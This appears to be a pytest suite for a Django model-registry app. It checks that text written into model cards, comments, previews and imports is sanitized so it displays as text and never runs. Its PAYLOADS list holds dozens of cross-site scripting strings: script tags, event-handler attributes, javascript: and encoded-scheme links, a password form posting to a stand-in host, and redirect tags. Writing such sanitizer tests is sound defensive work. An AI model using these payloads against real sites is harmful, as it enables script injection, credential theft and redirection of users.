"""What somebody writes into a card is shown and never acts: on the page, in the preview, in comments and in the PDF."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import User
from governance.templatetags.prose import SCHEMES, TAGS, prose
from registry.actions import comment_on_card
from registry.measures import Measures
from registry.models import RegisteredModel
from tests.builders import a_card, a_version
from tests.conftest import AT, actor_of_user

ClientOf = Callable[[User], Client]
CARD = "/models/credit-default/versions/1/card/"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "<style>@import '//x.example'</style><link rel=stylesheet href=//x.example>",
    '<form action="//x.example"><input name=password autofocus onfocus=alert(1)></form>',
    '<base href="//x.example/"><meta http-equiv=refresh content="0;url=//x.example">',
    '<p style="background:url(javascript:alert(1))" hx-get="/keys/" hx-trigger="load" data-draft="x">x</p>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://x.example/pixel.png)",
    "[x](//x.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[x](https://x.example "onmouseover=alert(1)")',
    '[x](https://x.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "</textarea><script>alert(1)</script>",
    "</section></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ <script>alert(1)</script> }}",
    "{{ performance.<img src=x onerror=alert(1)> }}",
    "[x]({{ performance.roc_auc }})",
    '<span class="cs-measured">0.99</span>',
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "\u202e<script>\u2028alert(1)</script>",
]
ATTRIBUTES = {"a": {"href", "rel", "title"}, "span": {"class"}}


class Seen(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def harmless(html: str) -> bool:
    """Only the tags that prose may hold, no attribute but a link's address, no scheme but those of the web."""
    for tag, attributes in Seen(html).tags:
        if tag not in TAGS or set(attributes) - ATTRIBUTES.get(tag, set()):
            return False
        scheme = re.match(r"[\s\x00-\x1f]*([a-zA-Z][\w+.-]*):", attributes.get("href", ""))
        if scheme and scheme[1].lower() not in SCHEMES:
            return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_shown_as_text(payload: str) -> None:
    assert harmless(prose(payload))
    assert harmless(prose(payload, Measures()))


def test_the_mark_of_a_measured_value_cannot_be_forged() -> None:
    shown = prose('<span class="cs-measured">0.99</span> {{ a.b }}', Measures())

    assert [tag for tag in Seen(shown).tags if tag[0] == "span"] == [("span", {"class": "cs-unmeasured"})]


@given(
    st.lists(st.sampled_from([*PAYLOADS, "\n\n", "* ", "> ", "    ", "`", "|", "](", "{{", "}}"]), max_size=5)
)
def test_payloads_together_are_harmless_too(parts: list[str]) -> None:
    assert harmless(prose("".join(parts), Measures()))


def test_no_page_lets_a_payload_out_of_its_place(
    cast: SimpleNamespace, model: RegisteredModel, client_of: ClientOf
) -> None:
    version = a_version(cast, model)
    everything = "\n\n".join(PAYLOADS)
    a_card(cast, version)
    a_card(cast, version, caveats=everything, details=PAYLOADS[0])
    comment_on_card(
        version=version,
        section="caveats",
        text=everything[:4_000],
        author=cast.ada,
        actor=actor_of_user(cast.ada),
        at=AT,
    )
    client = client_of(cast.dev)
    pages = {
        name: client.get(f"{CARD}{name}").content.decode() for name in ("", "edit/", "?since=1&revision=2")
    }
    imported = {"revision": "2", "text": f"## Caveats\n\n{everything}\n\n## <script>x</script>\n\ny"}
    pages["import"] = client.post(f"{CARD}import/", imported).content.decode()
    pages["preview"] = client.post(f"{CARD}preview/", {"caveats": everything}).content.decode()
    plain = client.get("/models/credit-default/versions/1/files/").content.decode()
    ours = {tuple(sorted(attributes.items())) for tag, attributes in Seen(plain).tags if tag == "script"}

    for name, page in pages.items():
        for tag, attributes in Seen(page).tags:
            assert not any(key.startswith("on") or key in ("style", "srcdoc") for key in attributes), (
                name,
                tag,
            )
            assert tag not in ("iframe", "img", "base", "style", "math", "animate"), (name, tag)
            assert "javascript:" not in attributes.get("href", ""), name
            if tag == "script":
                mine = attributes.get("src", "").startswith("/static/registry/cards")
                assert mine or tuple(sorted(attributes.items())) in ours, (name, attributes)
